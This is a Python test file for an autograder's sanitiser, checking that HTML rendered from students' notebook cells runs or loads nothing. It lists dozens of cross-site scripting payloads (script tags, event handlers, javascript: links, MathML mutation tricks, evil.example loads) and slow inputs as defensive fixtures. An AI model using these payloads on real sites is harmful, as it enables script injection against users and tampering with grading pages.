"""Pages that nbgrader writes of students' cells: what a browser would run is shown as text."""

import re
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from traitlets.config import Config

from autograder import safe_html
from autograder.configuration import configure

DOT = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


class Elements(HTMLParser):
    """Every element with its attributes, and all text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def live(self) -> list[str]:
        """Name what a browser would run or load, or what changes the page around it."""
        return [
            f"{tag} {name}={value}"
            for tag, attributes in self.found
            for name, value in attributes.items()
            if not (name == "id" and (value or "").startswith("cell-id="))  # nbconvert's own
            if name.startswith("on")
            or name in ("style", "srcdoc", "srcset", "id", "action", "formaction", "background")
            or re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.IGNORECASE)
            or (name == "src" and not (value or "").startswith("data:image/"))
        ] + [tag for tag, attributes in self.found if tag in LIVE or _foreign(tag, attributes)]


def _foreign(tag: str, attributes: dict[str, str | None]) -> bool:
    """Tell whether it is a formula that we have not drawn."""
    return tag == "math" and attributes.get("xmlns") is None


LIVE = (
    "script",
    "style",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "meta",
    "link",
    "base",
    "semantics",
    "annotation-xml",
    "maction",
    "mglyph",
)


def exporter() -> HTMLExporter:
    config = Config()
    configure(config)
    return HTMLExporter(config=config, template_name="basic")


def shown(*cells: object) -> Elements:
    page, _ = exporter().from_notebook_node(new_notebook(cells=list(cells)))
    return Elements(page)


def bodies(page: Elements) -> list[tuple[str, dict[str, str | None]]]:
    """Leave the frame out that nbconvert puts around every cell."""
    return [(t, a) for t, a in page.found if "jp-" not in (a.get("class") or "")]


MATHML = '<math xmlns="http://www.w3.org/1998/Math/MathML">'
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<b style="position:fixed;inset:0">covers the page</b>',
    '<b id="score" class="score">100</b>',
    "<object data=x></object><embed src=x>",
    '<form action="https://evil.example"><input name=x><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "</div></div></body><script>alert(1)</script>",
    "$</span><script>alert(1)</script>$",
    "$\\text{<script>alert(1)</script>}$",
    '$\\hspace{1em" onclick="alert(1)}$',
    "![$x$](y)",
    f"{MATHML}<mi onclick=alert(1)>x</mi></math>",
    f"{MATHML}<mtext><script>alert(1)</script></mtext></math>",
    f"{MATHML}<mi class='score'>x</mi></math>",
    f"<a href='https://x/{MATHML}<mi>onclick=alert(1)</mi></math>'>x</a>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<" * 3_000 + "script>",
    "[" * 3_000,
    "![x](attachment:missing.png)",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_what_students_write_runs_nothing(attack):
    plain = shown(new_markdown_cell("text"))
    page = shown(new_markdown_cell(attack), new_markdown_cell("after"))
    assert set(page.live()) <= set(plain.live())
    assert "after" in page.text


def test_what_students_print_runs_nothing():
    attack = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    outputs = [
        new_output("stream", name="stdout", text=attack),
        new_output("stream", name="stderr", text=attack),
        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
        new_output("display_data", data={"text/plain": attack}),
        new_output("execute_result", data={"text/plain": attack, "text/html": attack}),
    ]
    page = shown(new_code_cell(attack, outputs=outputs))
    plain = shown(new_code_cell("1", outputs=[new_output("stream", name="stdout", text="1")]))
    assert set(page.live()) <= set(plain.live())
    assert page.text.count("<script>alert(1)</script>") >= 5


def test_prose_code_tables_math_and_pictures_survive():
    source = """# Title

**bold**, *slanted*, `x < y`, [a link](https://example.com), ~~gone~~ and <kbd>Ctrl</kbd>.

| a | b |
|---|---|
| 1 | 2 |

- one
- two

$\\alpha < \\beta$ and

$$\\frac{\\partial L}{\\partial w}$$

```python
def f(x):
    return x + 1
```

![a dot](attachment:dot.png)
"""
    cell = new_markdown_cell(source, attachments={"dot.png": {"image/png": DOT}})
    page = shown(cell)
    tags = {tag for tag, _ in page.found}
    assert {"h1", "strong", "em", "code", "a", "kbd", "table", "td", "ul", "li", "pre"} <= tags
    assert {"math", "mi", "mo", "mfrac"} <= tags
    assert "α<β" in re.sub(r"\s+", "", page.text)
    assert "$" not in page.text
    assert "return x + 1" in re.sub(r"\s+", " ", page.text)
    links = [attributes["href"] for tag, attributes in bodies(page) if tag == "a"]
    assert "https://example.com" in links
    pictures = [attributes["src"] for tag, attributes in page.found if tag == "img"]
    assert pictures == [f"data:image/png;base64,{DOT}"]


def test_a_formula_that_cannot_be_drawn_stays_as_it_is_written():
    wrong = ("$x_{a}_{b}$", "$$\\frac$$", f"${'{' * 500}$", "\\begin{a}x & y\\end{a}")
    page = shown(*[new_markdown_cell(f"{tex} and $x<y$") for tex in wrong])
    assert all(tex in page.text for tex in wrong)
    assert [tag for tag, _ in page.found].count("math") == len(wrong)


def test_formulas_in_texts_of_tags_are_not_drawn():
    page = shown(new_markdown_cell("![$x$](data:image/png;,)"))
    (alt,) = [attributes["alt"] for tag, attributes in page.found if tag == "img"]
    assert str(alt).strip() == "x"


def test_an_attachment_is_no_way_out_of_its_picture():
    evil = {"x.png": {"image/png": 'AAAA" onerror="alert(1)'}}
    page = shown(new_markdown_cell("![x](attachment:x.png)", attachments=evil))
    assert not [value for value in page.live() if "alert" in value and value.startswith("on")]
    assert all("onerror" not in attributes for _, attributes in page.found)


# --- in time -------------------------------------------------------------------------------------

SLOW_PROSE = ("a" + " " * 60_000 + "b", "<div>" * 12_000, "a_" * 30_000)
SLOW_CODE = (" \n" * 8_000, "." * 60_000)


@pytest.fixture
def hurried(monkeypatch: pytest.MonkeyPatch) -> HTMLExporter:
    """An exporter whose cells may take a tenth of a second, and all of them three tenths."""
    monkeypatch.setattr(safe_html, "CELL_SECONDS", 0.1)
    monkeypatch.setattr(safe_html, "PAGE_SECONDS", 0.3)
    config = Config()
    configure(config)
    return HTMLExporter(config=config, template_name="basic")


def test_cells_that_take_too_long_are_shown_as_they_stand(hurried):
    cells = [new_markdown_cell(f"{text}<b>") for text in SLOW_PROSE * 4]
    cells += [new_code_cell(f"{text}<b>") for text in SLOW_CODE * 4]
    began = time.process_time()
    page, _ = hurried.from_notebook_node(new_notebook(cells=cells))
    assert time.process_time() - began < 5
    found = Elements(page)
    assert found.text.count("<b>") == len(cells)
    assert "b" not in {tag for tag, _ in found.found}


def test_ordinary_cells_are_rendered_and_coloured(hurried):
    page, _ = hurried.from_notebook_node(
        new_notebook(cells=[new_code_cell("def f(x): return x"), new_markdown_cell("**bold**")])
    )
    found = Elements(page).found
    assert ("span", {"class": "k"}) in found
    assert "strong" in {tag for tag, _ in found}


def test_in_a_thread_short_cells_alone_are_rendered():
    """Nothing there can be stopped: nbgrader's own threads, should it ever have some."""
    with ThreadPoolExecutor(1) as threads:
        cells = [new_markdown_cell("**bold**"), new_markdown_cell("*slanted* " * 1_000)]
        page = threads.submit(shown, *cells).result()
    assert {"strong"} == {"strong", "em"} & {tag for tag, _ in page.found}


def test_nbgraders_pages_colour_code_in_time():
    config = Config()
    configure(config)
    assert config.HTMLExporter.filters["highlight_code"] == "autograder.safe_html.highlight"
